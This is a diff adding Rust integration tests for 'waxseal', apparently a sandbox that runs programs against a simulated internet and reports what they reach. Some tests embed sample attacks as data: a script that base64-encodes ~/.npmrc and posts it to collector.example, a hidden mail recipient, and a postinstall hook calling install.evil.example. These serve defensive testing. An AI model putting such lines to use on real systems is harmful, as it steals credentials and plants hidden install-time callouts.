@@ -1,0 +1,209 @@
+//! `waxseal run` as a user types it: the real room, the real simulated internet, real programs in it.
+
+use std::net::TcpListener;
+use std::path::Path;
+use std::process::{Command, Output};
+
+use serde_json::Value;
+
+fn run(folder: &Path, options: &[&str], command: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_waxseal"))
+        .arg("run")
+        .args(["--seed", "11"])
+        .args(options)
+        .arg("--")
+        .args(command)
+        .current_dir(folder)
+        .output()
+        .expect("waxseal starts")
+}
+
+/// Runs a script of Node's and reads the summary.
+fn node(options: &[&str], script: &str) -> (Option<i32>, Value) {
+    let folder = tempfile::tempdir().expect("a folder");
+    let options = [&["--format", "json"], options].concat();
+    let out = run(folder.path(), &options, &["node", "-e", script]);
+    let summary = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&out.stderr)));
+    (out.status.code(), summary)
+}
+
+fn names(summary: &Value, list: &str, field: &str) -> Vec<String> {
+    let list = summary[list].as_array().expect("a list");
+    list.iter()
+        .filter_map(|it| it[field].as_str())
+        .map(str::to_owned)
+        .collect()
+}
+
+const FETCH: &str = "fetch('https://api.shop.example/v1/orders').then(r => r.text()).then(() => process.exit(0))";
+
+#[test]
+fn a_request_is_answered_and_told() {
+    let (code, summary) = node(&[], FETCH);
+    assert_eq!(code, Some(0), "{summary:#}");
+    assert_eq!(
+        names(&summary, "destinations", "name"),
+        ["api.shop.example"],
+        "{summary:#}"
+    );
+}
+
+#[test]
+fn what_is_not_allowed_fails_the_run() {
+    let (code, _) = node(&["--allow", "other.example"], FETCH);
+    assert_eq!(code, Some(1));
+    let (code, _) = node(&["--allow", "*.shop.example"], FETCH);
+    assert_eq!(code, Some(0));
+}
+
+#[test]
+fn a_planted_secret_that_leaves_in_an_encoding_is_found() {
+    let script = "
+        const secret = require('node:fs').readFileSync(process.env.HOME + '/.npmrc').toString('base64')
+        fetch('https://collector.example/', { method: 'POST', body: secret }).then(() => process.exit(0))";
+    let (code, summary) = node(&[], script);
+    assert_eq!(code, Some(1), "{summary:#}");
+    let sent = summary["canaries"].as_array().expect("a list");
+    assert!(sent.iter().any(|it| it.to_string().contains("sent")), "{summary:#}");
+}
+
+#[test]
+fn mail_is_told_with_its_envelope() {
+    let script = "
+        const socket = require('node:net').connect(25, 'mx.corp.example')
+        const lines = ['EHLO a', 'MAIL FROM:<a@corp.example>', 'RCPT TO:<hidden@collector.example>', 'DATA', 'To: you@corp.example\\r\\n\\r\\nhi\\r\\n.', 'QUIT']
+        socket.on('data', () => lines.length ? socket.write(lines.shift() + '\\r\\n') : socket.end())
+        socket.on('close', () => process.exit(0))";
+    let (_, summary) = node(&[], script);
+    let mails = summary["mails"].as_array().expect("a list");
+    assert!(
+        mails.len() == 1 && mails[0].to_string().contains("hidden@collector.example"),
+        "{summary:#}"
+    );
+}
+
+#[test]
+fn what_could_not_be_run_to_its_end_is_no_pass() {
+    let folder = tempfile::tempdir().expect("a folder");
+    assert_eq!(run(folder.path(), &[], &["no-such-program"]).status.code(), Some(4));
+    let slow = run(folder.path(), &["--max-time", "1s"], &["sleep", "60"]);
+    assert_eq!(slow.status.code(), Some(4));
+    assert_eq!(
+        run(folder.path(), &[], &["sh", "-c", "exit 255"]).status.code(),
+        Some(0)
+    );
+}
+
+#[test]
+fn nothing_of_this_machine_is_reached() {
+    let listener = TcpListener::bind("127.0.0.1:0").expect("a socket");
+    listener.set_nonblocking(true).expect("a setting");
+    let port = listener.local_addr().expect("an address").port();
+    let script = format!(
+        "const socket = require('node:net').connect({port}, '127.0.0.1')
+         socket.on('connect', () => process.exit(9)); socket.on('error', () => process.exit(0))"
+    );
+    let (_, summary) = node(&[], &script);
+    assert!(summary["end"].to_string().contains("exit 0"), "{summary:#}");
+    assert!(listener.accept().is_err(), "somebody came");
+}
+
+#[test]
+fn what_a_project_is_changed_to_never_leaves_the_room() {
+    let folder = tempfile::tempdir().expect("a folder");
+    std::fs::write(folder.path().join("kept"), "before").expect("a file");
+    let out = run(
+        folder.path(),
+        &[],
+        &[
+            "sh",
+            "-c",
+            "cat kept && echo after > kept && echo new > made && cat kept",
+        ],
+    );
+    let said = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert!(said.contains("before") && said.contains("after"), "{said}");
+    assert_eq!(
+        std::fs::read_to_string(folder.path().join("kept")).expect("a file"),
+        "before"
+    );
+    assert!(!folder.path().join("made").exists());
+}
+
+#[test]
+fn what_a_command_writes_cannot_command_the_terminal() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let out = run(folder.path(), &[], &["printf", "\\033]0;title\\007\\033[2J\\n"]);
+    let all = [out.stdout, out.stderr].concat();
+    assert!(
+        !all.contains(&0x1b) && !all.contains(&7),
+        "{}",
+        String::from_utf8_lossy(&all)
+    );
+}
+
+#[test]
+fn a_flood_of_output_is_read_and_not_all_shown() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let out = run(
+        folder.path(),
+        &[],
+        &["sh", "-c", "yes 0123456789abcdef | head -c 60000000"],
+    );
+    assert_eq!(out.status.code(), Some(0));
+    assert!(out.stderr.len() < 40 << 20, "{}", out.stderr.len());
+}
+
+#[test]
+fn a_run_with_the_same_seed_sees_the_same() {
+    let seen = || {
+        let (_, mut summary) = node(&[], FETCH);
+        for field in ["duration_us", "counters", "processes"] {
+            summary.as_object_mut().expect("an object").remove(field);
+        }
+        let text = summary.to_string();
+        // Clocks and the sizes of handshakes differ.
+        let kept: String = text
+            .split(',')
+            .filter(|it| {
+                !it.contains("_us")
+                    && !it.contains("bytes")
+                    && !it.contains("pid")
+                    && !it.contains("sent")
+                    && !it.contains("received")
+            })
+            .collect();
+        kept
+    };
+    assert_eq!(seen(), seen());
+}
+
+#[test]
+fn a_package_is_installed_with_its_scripts_and_loaded() {
+    let folder = tempfile::tempdir().expect("a folder");
+    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).expect("a file");
+    write(
+        "package.json",
+        r#"{"name":"tiny","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node -e \"fetch('http://install.evil.example/').then(() => 0)\""}}"#,
+    );
+    write("index.js", "fetch('http://import.evil.example/').then(() => 0)");
+    let out = Command::new(env!("CARGO_BIN_EXE_waxseal"))
+        .args([
+            "run",
+            "--format",
+            "json",
+            "--registry",
+            "https://registry.example/",
+            ".",
+        ])
+        .current_dir(folder.path())
+        .output()
+        .expect("waxseal starts");
+    let summary: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&out.stderr)));
+    let reached = names(&summary, "destinations", "name");
+    for host in ["install.evil.example", "import.evil.example"] {
+        assert!(reached.iter().any(|it| it == host), "{host}: {summary:#}");
+    }
+}
